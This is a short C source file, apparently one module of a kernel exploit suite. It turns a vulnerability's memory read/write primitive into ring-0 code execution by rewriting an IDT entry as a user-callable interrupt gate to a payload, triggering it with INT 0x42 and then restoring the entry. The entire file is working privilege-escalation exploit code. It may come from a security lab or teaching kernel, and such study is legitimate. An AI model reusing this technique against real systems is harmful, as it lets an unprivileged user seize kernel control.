// A free gate of the IDT is filled: INT 0x42 from user mode then runs the payload at CPL 0.
#include "exploit.h"
#include "kernel/arch/selectors.h"

enum { VECTOR = 0x42, USER_INTERRUPT_GATE = 0xee00 };

static int run(const struct vuln_leak *leak) {
    uint32_t gate = leak->interrupt_table + VECTOR * 8, offset = (uintptr_t)payload_interrupt;
    uint32_t low = vuln(VULN_PEEK, gate, 0), high = vuln(VULN_PEEK, gate + 4, 0);
    vuln(VULN_POKE, gate, KERNEL_CODE << 16 | (offset & 0xffff));
    vuln(VULN_POKE, gate + 4, (offset & 0xffff0000) | USER_INTERRUPT_GATE);
    asm volatile("int %0" ::"i"(VECTOR) : "memory");
    vuln(VULN_POKE, gate, low);
    vuln(VULN_POKE, gate + 4, high);
    return payload_cs;
}

const struct exploit exploit_idt = {"idt", run, payload_interrupt};
